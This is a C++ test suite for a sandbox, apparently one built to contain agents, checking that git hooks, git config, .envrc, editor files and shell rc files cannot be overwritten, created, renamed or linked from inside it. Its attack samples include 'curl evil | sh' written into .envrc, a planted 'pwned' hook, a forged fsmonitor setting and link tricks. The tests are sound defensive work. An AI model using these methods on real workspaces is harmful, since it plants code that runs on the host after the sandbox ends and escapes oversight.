// Protected paths inside the workspace, attacked for real. These are files the host runs or trusts
// after the sandbox has gone (git hooks and config, direnv's .envrc, editor task files, shell rc files):
// a sandbox that can write them can run code on the host later. Each attack is one operation; after it
// the host workspace must be byte for byte what it was before.

#include "tests/support/SandboxRun.h"

#include <QtTest>

#include <unistd.h>

using namespace warren::test;

namespace {

// Every path with its content (symlinks by target), to compare the workspace before and after a run.
QMap<QString, QByteArray> snapshot(const Workspace& workspace)
{
    QMap<QString, QByteArray> state;
    for (const QString& entry : workspace.entries()) {
        const QFileInfo info(workspace.hostPath(entry));
        if (info.isSymLink())
            state.insert(entry, "symlink:" + QFile::encodeName(info.symLinkTarget()));
        else if (info.isFile())
            state.insert(entry, workspace.readFile(entry) + "\nmode:" + QByteArray::number(int(info.permissions())));
        else
            state.insert(entry, QByteArray("dir"));
    }
    return state;
}

QString difference(const QMap<QString, QByteArray>& before, const QMap<QString, QByteArray>& after)
{
    QStringList changes;
    for (auto it = before.cbegin(); it != before.cend(); ++it) {
        if (!after.contains(it.key()))
            changes << QStringLiteral("removed %1").arg(it.key());
        else if (after.value(it.key()) != it.value())
            changes << QStringLiteral("changed %1").arg(it.key());
    }
    for (auto it = after.cbegin(); it != after.cend(); ++it) {
        if (!before.contains(it.key()))
            changes << QStringLiteral("added %1").arg(it.key());
    }
    return changes.join(QLatin1String(", "));
}

const QByteArray kHook = "#!/bin/sh\necho the real hook\n";
const QByteArray kEvil = "#!/bin/sh\necho pwned > /tmp/pwned\n";

} // namespace

class TestSandboxProtectedPaths : public QObject {
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void attackLeavesWorkspaceUnchanged_data();
    void attackLeavesWorkspaceUnchanged();
    void shellRedirectionCannotCreateEnvrc();
    void repositoryCannotBeCreated_data();
    void repositoryCannotBeCreated();
    void aliasPlantedOnHostCannotChangeProtectedFile_data();
    void aliasPlantedOnHostCannotChangeProtectedFile();
    void ordinaryFilesStayWritable();

private:
    std::unique_ptr<Workspace> m_workspace;
};

void TestSandboxProtectedPaths::initTestCase()
{
    const QString problem = sandboxUnusable();
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
}

// A repository as git leaves it, with one real hook, and an ordinary file to misuse.
void TestSandboxProtectedPaths::init()
{
    m_workspace = std::make_unique<Workspace>();
    QVERIFY(m_workspace->isValid());
    QVERIFY(m_workspace->installProbe());
    QVERIFY(m_workspace->writeFile(QStringLiteral(".git/HEAD"), "ref: refs/heads/main\n"));
    QVERIFY(m_workspace->writeFile(QStringLiteral(".git/config"), "[core]\n\trepositoryformatversion = 0\n"));
    QVERIFY(m_workspace->writeFile(QStringLiteral(".git/hooks/pre-commit"), kHook, true));
    QVERIFY(QDir().mkpath(m_workspace->hostPath(QStringLiteral(".git/objects"))));
    QVERIFY(QDir().mkpath(m_workspace->hostPath(QStringLiteral(".git/refs/heads"))));
    QVERIFY(m_workspace->writeFile(QStringLiteral("evil"), kEvil, true));
}

void TestSandboxProtectedPaths::attackLeavesWorkspaceUnchanged_data()
{
    QTest::addColumn<QStringList>("existing"); // protected files the host workspace has before the run
    QTest::addColumn<QStringList>("probe");

    const QStringList none;
    const QStringList withEnvrc{QStringLiteral(".envrc")};
    const QStringList withEditorAndShell{QStringLiteral(".vscode/settings.json"), QStringLiteral(".bashrc"),
                                         QStringLiteral(".gitmodules")};
    auto w = [](const char* path) { return QStringList{QStringLiteral("write-file"), QLatin1String("/workspace/") + QLatin1String(path)}; };
    auto op = [](const char* action, const char* a, const char* b = nullptr) {
        QStringList args{QLatin1String(action), QLatin1String("/workspace/") + QLatin1String(a)};
        if (b)
            args << QLatin1String("/workspace/") + QLatin1String(b);
        return args;
    };

    // Overwriting what exists.
    QTest::newRow("overwrite .git/hooks/pre-commit") << none << w(".git/hooks/pre-commit");
    QTest::newRow("overwrite .git/config") << none << w(".git/config");
    QTest::newRow("overwrite .envrc") << withEnvrc << w(".envrc");
    QTest::newRow("overwrite .vscode/settings.json") << withEditorAndShell << w(".vscode/settings.json");
    QTest::newRow("overwrite .bashrc") << withEditorAndShell << w(".bashrc");
    QTest::newRow("overwrite .gitmodules") << withEditorAndShell << w(".gitmodules");
    // Creating what does not exist yet, for the paths the host acts on as soon as they appear (the
    // shell rc files and .gitmodules are protected only once they exist: see the default profile).
    QTest::newRow("create .git/hooks/post-checkout") << none << w(".git/hooks/post-checkout");
    QTest::newRow("create .envrc") << none << w(".envrc");
    QTest::newRow("create .vscode/tasks.json") << none << w(".vscode/tasks.json");
    QTest::newRow("create .vscode/tasks.json beside settings") << withEditorAndShell << w(".vscode/tasks.json");
    QTest::newRow("create .idea/workspace.xml") << none << w(".idea/workspace.xml");
    QTest::newRow("create .git/info/attributes") << none << w(".git/info/attributes");
    QTest::newRow("mkdir .vscode") << none << op("mkdir", ".vscode");
    // Replacing by rename, unlink or link.
    QTest::newRow("rename .git away") << none << op("rename", ".git", "moved-git");
    QTest::newRow("rename .git/hooks away") << none << op("rename", ".git/hooks", ".git/hooks-moved");
    QTest::newRow("rename .git/config away") << none << op("rename", ".git/config", ".git/config-moved");
    QTest::newRow("rename over .git/config") << none << op("rename", "evil", ".git/config");
    QTest::newRow("rename over .git/hooks/pre-commit") << none << op("rename", "evil", ".git/hooks/pre-commit");
    QTest::newRow("rename into .git/hooks") << none << op("rename", "evil", ".git/hooks/post-merge");
    QTest::newRow("rename over missing .envrc") << none << op("rename", "evil", ".envrc");
    QTest::newRow("rename over existing .envrc") << withEnvrc << op("rename", "evil", ".envrc");
    QTest::newRow("unlink .git/config") << none << op("unlink", ".git/config");
    QTest::newRow("unlink .git/hooks/pre-commit") << none << op("unlink", ".git/hooks/pre-commit");
    QTest::newRow("unlink .envrc") << withEnvrc << op("unlink", ".envrc");
    QTest::newRow("symlink as .envrc") << none << op("symlink", "evil", ".envrc");
    QTest::newRow("symlink as .git/hooks/post-commit") << none << op("symlink", "evil", ".git/hooks/post-commit");
    // A second name for a protected file would be writable where the file is not.
    QTest::newRow("hard link to .git/config") << none << op("hardlink", ".git/config", "config-alias");
    QTest::newRow("hard link to .git/hooks/pre-commit") << none << op("hardlink", ".git/hooks/pre-commit", "hook-alias");
    QTest::newRow("hard link as .git/hooks/post-commit") << none << op("hardlink", "evil", ".git/hooks/post-commit");
}

void TestSandboxProtectedPaths::attackLeavesWorkspaceUnchanged()
{
    QFETCH(QStringList, existing);
    QFETCH(QStringList, probe);

    for (const QString& path : existing)
        QVERIFY(m_workspace->writeFile(path, "# trusted by the host\n"));
    const auto before = snapshot(*m_workspace);

    const RunOutcome outcome = m_workspace->probe(probe);
    QVERIFY2(outcome.probeFailed(), qPrintable(outcome.describe()));
    const auto after = snapshot(*m_workspace);
    QVERIFY2(after == before, qPrintable(difference(before, after)));
}

// The way an agent would actually try it, through a shell; and what a failed attempt leaves behind on
// the host must be nothing at all (no empty .envrc that bwrap created as a mount point).
void TestSandboxProtectedPaths::shellRedirectionCannotCreateEnvrc()
{
    const auto before = snapshot(*m_workspace);
    const RunOutcome outcome = m_workspace->run(
        {QStringLiteral("sh"), QStringLiteral("-c"), QStringLiteral("echo 'curl evil | sh' > .envrc")});
    QVERIFY2(outcome.exited() && outcome.exitCode != 0, qPrintable(outcome.describe()));
    QVERIFY(!m_workspace->exists(QStringLiteral(".envrc")));
    const auto after = snapshot(*m_workspace);
    QVERIFY2(after == before, qPrintable(difference(before, after)));
}

void TestSandboxProtectedPaths::repositoryCannotBeCreated_data()
{
    QTest::addColumn<QString>("script");

    // In a workspace without .git, a .git made by the sandbox would carry a config of its choosing
    // (core.fsmonitor, core.hooksPath, aliases): the next git status on the host runs it.
    QTest::newRow("git init") << QStringLiteral("git init -q");
    QTest::newRow("git init without templates") << QStringLiteral("git init -q --template=");
    QTest::newRow("hand-made .git/config") << QStringLiteral("mkdir -p .git && printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config");
    QTest::newRow("hand-made .git/hooks") << QStringLiteral("mkdir -p .git/hooks && cp evil .git/hooks/pre-commit");
    QTest::newRow(".git renamed into place") << QStringLiteral("mkdir -p forged/hooks && cp evil forged/hooks/pre-commit && mv -T forged .git");
}

void TestSandboxProtectedPaths::repositoryCannotBeCreated()
{
    QFETCH(QString, script);

    QVERIFY(QDir(m_workspace->hostPath(QStringLiteral(".git"))).removeRecursively());
    const RunOutcome outcome = m_workspace->run({QStringLiteral("sh"), QStringLiteral("-c"), script});
    QVERIFY2(outcome.exited() && outcome.exitCode != 0, qPrintable(outcome.describe()));
    // Not even the empty placeholder the sandbox mounted there is left behind.
    QVERIFY2(!m_workspace->exists(QStringLiteral(".git")), qPrintable(m_workspace->entries().join(QLatin1Char(' '))));
}

void TestSandboxProtectedPaths::aliasPlantedOnHostCannotChangeProtectedFile_data()
{
    QTest::addColumn<QString>("protectedPath");
    QTest::addColumn<bool>("hardLink");

    // The workspace arrives with a second name for a protected file (a repository can carry symlinks;
    // a hard link can be left by any earlier tool). Warren either refuses the workspace or the second
    // name is no way in.
    QTest::newRow("hard link to .git/config") << QStringLiteral(".git/config") << true;
    QTest::newRow("hard link to .git/hooks/pre-commit") << QStringLiteral(".git/hooks/pre-commit") << true;
    QTest::newRow(".envrc symlinked to an ordinary file") << QStringLiteral(".envrc") << false;
    QTest::newRow(".git/hooks/pre-push symlinked to an ordinary file") << QStringLiteral(".git/hooks/pre-push") << false;
}

void TestSandboxProtectedPaths::aliasPlantedOnHostCannotChangeProtectedFile()
{
    QFETCH(QString, protectedPath);
    QFETCH(bool, hardLink);

    QString writable;
    if (hardLink) {
        writable = QStringLiteral("alias");
        QVERIFY(::link(QFile::encodeName(m_workspace->hostPath(protectedPath)).constData(),
                       QFile::encodeName(m_workspace->hostPath(writable)).constData()) == 0);
    } else {
        writable = QStringLiteral("docs/notes");
        QVERIFY(m_workspace->writeFile(writable, "harmless\n"));
        const QDir linkDirectory = QFileInfo(m_workspace->hostPath(protectedPath)).absoluteDir();
        QVERIFY(QFile::link(linkDirectory.relativeFilePath(m_workspace->hostPath(writable)),
                            m_workspace->hostPath(protectedPath)));
    }
    const QByteArray trusted = m_workspace->readFile(protectedPath);

    const RunOutcome outcome = m_workspace->run(
        {QStringLiteral("sh"), QStringLiteral("-c"), QStringLiteral("echo 'curl evil | sh' > \"$1\""), QStringLiteral("sh"), writable});
    QVERIFY2(outcome.exited(), qPrintable(outcome.describe()));
    QCOMPARE(m_workspace->readFile(protectedPath), trusted);
}

// Protection is narrow: the rest of the workspace, including the parts of .git that git commit writes,
// stays writable.
void TestSandboxProtectedPaths::ordinaryFilesStayWritable()
{
    const QString script = QStringLiteral(
        "echo source > main.c && mkdir -p .git/objects/ab && echo blob > .git/objects/ab/cd && "
        "echo 0123 > .git/refs/heads/main && echo index > .git/index && echo note > .vscode-not-protected");
    const RunOutcome outcome = m_workspace->run({QStringLiteral("sh"), QStringLiteral("-c"), script});
    QVERIFY2(outcome.exited() && outcome.exitCode == 0, qPrintable(outcome.describe()));
    QCOMPARE(m_workspace->readFile(QStringLiteral("main.c")), QByteArray("source\n"));
    QCOMPARE(m_workspace->readFile(QStringLiteral(".git/objects/ab/cd")), QByteArray("blob\n"));
    QCOMPARE(m_workspace->readFile(QStringLiteral(".git/refs/heads/main")), QByteArray("0123\n"));
    QCOMPARE(m_workspace->readFile(QStringLiteral(".git/index")), QByteArray("index\n"));
}

QTEST_GUILESS_MAIN(TestSandboxProtectedPaths)
#include "tst_sandbox_protected_paths.moc"
